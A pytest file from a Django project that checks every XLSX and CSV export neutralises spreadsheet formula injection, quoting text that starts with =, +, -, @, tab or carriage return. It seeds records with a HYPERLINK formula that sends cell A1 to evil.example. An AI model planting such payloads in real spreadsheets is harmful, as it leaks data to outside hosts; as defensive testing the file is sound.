"""Formula injection (OWASP) in every XLSX and CSV export (issue 14).

A text beginning with =, +, -, @, a tab or a carriage return must reach the spreadsheet as
text, never as a formula. One writer does it (core.xlsx.write_xlsx); these tests make sure
every export goes through it:

- no module but core/xlsx.py writes a spreadsheet (openpyxl's Workbook, csv writers,
  xlsxwriter, pandas), so a new exporter cannot bypass the writer unnoticed;
- every page of an organization is opened (the resolver's, so new ones are included) with data
  whose every text field holds a formula, and every XLSX answer is read back: no formula
  cell, every formula-like text quoted. Known exports must be among those found, which shows
  the walk reaches them.
"""

from __future__ import annotations

import ast
import datetime as dt
import decimal
import io
from pathlib import Path

import pytest
from django.db import models
from django.test import Client
from openpyxl import load_workbook

from tests.test_tenancy import ROUTES, CannotFill, make_org_a, populate, tenant_models, url_for
from yntymaq.core.xlsx import FORMULA_TRIGGERS, write_xlsx

SOURCE = Path(__file__).resolve().parent.parent / "yntymaq"
THE_WRITER = SOURCE / "core" / "xlsx.py"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Exports that the walk must reach (a floor: the walk finds every one, these prove it works).
KNOWN_EXPORTS = {
    "incoming:stay-export",
    "incoming:import-template",
    "outbound:trip-export",
    "outbound:abroad-export",
    "outbound:trip-import-template",
    "partners:partner-export",
    "partners:agreement-export",
    "planning:long-term-plan-xlsx",
    "planning:annual-plan-xlsx",
    "planning:activity-xlsx",
    "planning:conference-xlsx",
    "planning:foreigners-work-xlsx",
    "planning:material-xlsx",
    "planning:specialty-proposal-xlsx",
}

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"x")'
# Fields whose value the code reads as data rather than text (poisoning them only breaks pages).
NOT_FREE_TEXT = {"slug", "iin", "bin", "kind", "sha256", "key", "token_hash", "code", "language"}


# --- the writer ------------------------------------------------------------------------------


def read_back(content: bytes):
    return load_workbook(io.BytesIO(content)).worksheets


def test_writer_quotes_formula_like_text_and_keeps_numbers_and_dates():
    values = [
        "=1+2",
        "+7 701 111 22 33",
        "-5",
        "@SUM(A1)",
        "\tTab",
        "\rReturn",
        "Обычный текст",
        -5,
        -2.5,
        decimal.Decimal("-12.50"),
        dt.date(2026, 3, 9),
        dt.datetime(2026, 3, 9, 14, 30),
    ]

    sheet = read_back(write_xlsx([("Лист", ["=Заголовок", "B"], [values])]).read())[0]

    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
    assert (header[0].value, header[0].data_type, header[0].quotePrefix) == (
        "=Заголовок",
        "s",
        True,
    )
    assert [(c.value, c.data_type, c.quotePrefix) for c in row] == [
        ("=1+2", "s", True),
        ("+7 701 111 22 33", "s", True),
        ("-5", "s", True),
        ("@SUM(A1)", "s", True),
        ("\tTab", "s", True),
        ("\rReturn", "s", True),
        ("Обычный текст", "s", False),
        (-5, "n", False),
        (-2.5, "n", False),
        (-12.5, "n", False),
        (dt.datetime(2026, 3, 9, 0, 0), "d", False),
        (dt.datetime(2026, 3, 9, 14, 30), "d", False),
    ]


def test_writer_drops_control_characters_xlsx_cannot_hold():
    sheet = read_back(write_xlsx([("Лист", ["A"], [["Вертикальная\x0bтабуляция"]])]).read())[0]

    assert sheet["A2"].value == "Вертикальнаятабуляция"


# --- nobody else writes spreadsheets ---------------------------------------------------------

FORBIDDEN_IMPORTS = {
    ("openpyxl", "Workbook"),
    ("openpyxl.workbook", "Workbook"),
    ("openpyxl.workbook.workbook", "Workbook"),
    ("openpyxl.writer.excel", None),
    ("csv", "writer"),
    ("csv", "DictWriter"),
    ("xlsxwriter", None),
    ("pandas", None),
}


def spreadsheet_writers(tree: ast.AST) -> list[str]:
    """What in a module writes a spreadsheet: imports of writers, csv.writer(...) calls."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            for alias in node.names:
                if (node.module, alias.name) in FORBIDDEN_IMPORTS or (
                    node.module.split(".")[0],
                    None,
                ) in FORBIDDEN_IMPORTS:
                    found.append(f"from {node.module} import {alias.name}")
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if (alias.name.split(".")[0], None) in FORBIDDEN_IMPORTS:
                    found.append(f"import {alias.name}")
        elif (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and (node.value.id, node.attr) in FORBIDDEN_IMPORTS
        ):
            found.append(f"{node.value.id}.{node.attr}")
    return sorted(found)


def test_only_the_one_writer_writes_spreadsheets():
    offenders = {}
    for path in SOURCE.rglob("*.py"):
        if path == THE_WRITER or "migrations" in path.parts:
            continue
        found = spreadsheet_writers(ast.parse(path.read_text(), filename=str(path)))
        if found:
            offenders[str(path.relative_to(SOURCE))] = found

    assert offenders == {}, "write spreadsheets through core.xlsx.write_xlsx / xlsx_response"


def test_the_check_recognises_a_bypassing_exporter():
    bypass = ast.parse(
        "from openpyxl import Workbook\nimport csv\nw = csv.writer(out)\nimport xlsxwriter\n"
    )

    assert spreadsheet_writers(bypass) == [
        "csv.writer",
        "from openpyxl import Workbook",
        "import xlsxwriter",
    ]


# --- every export, with formulas in every text field -----------------------------------------


def poison(organization) -> int:
    """Put a formula into every free-text field of every record of the organization."""
    changed = 0
    for model in tenant_models():
        fields = [
            f
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField)
            and not f.choices
            and f.name not in NOT_FREE_TEXT
            and (f.max_length is None or f.max_length >= 20)
            and not getattr(f, "unique", False)
        ]
        if not fields:
            continue
        for obj in model._base_manager.filter(organization=organization):
            values = {f.attname: PAYLOAD[: f.max_length or len(PAYLOAD)] for f in fields}
            model._base_manager.filter(pk=obj.pk).update(**values)
            changed += 1
    return changed


def check_cells(name: str, content: bytes) -> tuple[list[str], int]:
    """The cells that Excel would evaluate, and how many formula-like texts are quoted."""
    problems, quoted = [], 0
    for sheet in read_back(content):
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    problems.append(f"{name} {sheet.title}!{cell.coordinate}: formula {value!r}")
                elif isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
                    if cell.quotePrefix:
                        quoted += 1
                    else:
                        problems.append(f"{name} {sheet.title}!{cell.coordinate}: {value!r}")
    return problems, quoted


PAGE_ROUTES = [
    r for r in ROUTES if not r.is_api and r.in_org and "get" in r.methods() and r.name is not None
]


@pytest.mark.django_db
def test_every_xlsx_export_writes_formula_like_text_as_text():
    organization, head = make_org_a()
    objects = {type(obj): obj for obj in populate(organization, head)}
    assert poison(organization) > 50
    client = Client(raise_request_exception=False)
    client.force_login(head)

    exports, problems = {}, []
    for route in PAGE_ROUTES:
        obj = objects.get(route.model()) if route.object_kwargs else None
        if route.object_kwargs and obj is None:
            continue
        try:
            url = url_for(route, organization.slug, obj)
        except CannotFill:
            continue
        response = client.get(url)
        if response.get("Content-Type", "").startswith(XLSX_TYPE):
            content = (
                b"".join(response.streaming_content) if response.streaming else response.content
            )
            found, quoted = check_cells(route.name, content)
            problems += found
            exports[route.name] = quoted

    assert problems == []
    assert set(exports) >= KNOWN_EXPORTS
    with_data = {name for name, quoted in exports.items() if quoted}
    assert len(with_data) >= 9, exports  # the registers' exports carried the formulas
